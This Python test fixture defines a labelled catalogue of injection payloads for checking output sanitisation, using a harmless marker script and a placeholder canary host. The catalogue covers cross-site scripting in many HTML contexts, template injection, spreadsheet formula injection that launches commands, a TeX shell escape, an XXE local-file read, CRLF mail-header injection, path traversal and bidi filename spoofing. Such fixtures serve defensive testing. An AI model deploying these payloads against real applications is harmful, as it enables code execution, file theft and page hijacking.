"""Texts that bite where they are not made harmless, each with an id: one list for every door and every sink."""

from __future__ import annotations

NOBODY = "http://canary.invalid"
"""A host that is nobody's: a request to it is seen in the browser's log, and goes nowhere."""


def marker(name: str) -> str:
    """Return the script that a payload tries to run: it writes its id on the page."""
    return f"document.documentElement.setAttribute('data-fired-{name}','1')"


def payloads(host: str = NOBODY, secret: str = "file:///etc/hostname") -> dict[str, str]:
    """Return every payload by its id; what no database holds (NUL, half a character pair) is not among them.

    Parameters
    ----------
    host : str
        Where those that fetch something call: a server that counts.
    secret : str
        Address of a local file that may not be read.
    """
    run = {name: marker(name) for name in _RUNNING}
    running = {name: form.replace("RUN", run[name]) for name, form in _RUNNING.items()}
    return running | {name: form.replace("HOST", host).replace("SECRET", secret) for name, form in _OTHERS.items()}


_RUNNING = {
    "script": "<script>RUN</script>",
    "script-after-table": "</td></table></details><script>RUN</script>",
    "script-after-title": "</title></style></textarea><script>RUN</script>",
    "script-after-comment": "--></div><script>RUN</script><!--",
    "script-in-json": '"}]};</script><script>RUN</script>',
    "image-error": '"><img src=x onerror="RUN">',
    "svg-load": '<svg onload="RUN"><script>RUN</script></svg>',
    "attribute-double": '" autofocus tabindex=1 onfocus="RUN" onmouseover="RUN" x="',
    "attribute-single": "' autofocus tabindex=1 onfocus='RUN' x='",
    "details-toggle": '<details open ontoggle="RUN">x</details>',
    "frame-document": '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "frame-address": '<iframe src="javascript:parent.RUN"></iframe>',
    "link-html": '<a href="javascript:RUN">x</a>',
    "link-markdown": '[x](javascript:RUN)![y](x" onerror="RUN")<img src=x onerror="RUN">',
    "entities": '&lt;img src=x onerror="RUN"&gt;&#60;script&#62;RUN&#60;/script&#62;',
    "braces": "{{constructor.constructor('RUN')()}}${RUN}{% raw %}{{ 7*7 }}#{RUN}",
}

_OTHERS = {
    "tex": r"$\undefined{x}$ \input{SECRET} $100 & $200 \immediate\write18{id}",
    "formula": '=HYPERLINK("HOST/formula","x")',
    "formula-plus": "+1+1",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-array": "{=1+1}",
    "style": '<style>@import "HOST/import";body{background:url(HOST/url)}</style>'
    '<link rel=stylesheet href="HOST/css"><img src="HOST/img">',
    "attachment": '<a rel=attachment href="SECRET">x</a><link rel=attachment href="SECRET">'
    '<object data="SECRET"></object><iframe src="SECRET"></iframe><img src="SECRET">',
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "SECRET">]><x>&e;</x>',
    "direction": "Bolag \u202egpj.exe\u2066 \ufeffAB\u200b",
    "header-lines": "Möte\r\nBcc: thief@canary.invalid\r\n\r\nATTENDEE:mailto:thief@canary.invalid\r\nBEGIN:VALARM",
    "terminal": "\x1b[2J\x1b[31mrött\x1b]0;title\x07\x08\x7f\x9b31m",
    "long-word": "Donaudampfschifffahrt" * 12,
    "path": "../../../../../../tmp/pwned/CON.aux",
    "refresh": '<meta http-equiv=refresh content="0;url=HOST/refresh"><base href="HOST/"><form action="HOST/form">'
    "<button autofocus>x</button></form>",
    "links": "mailto:thief@canary.invalid internal:Sheet1!A1 external:c:\\x HOST/link ftp://canary.invalid/x",
}
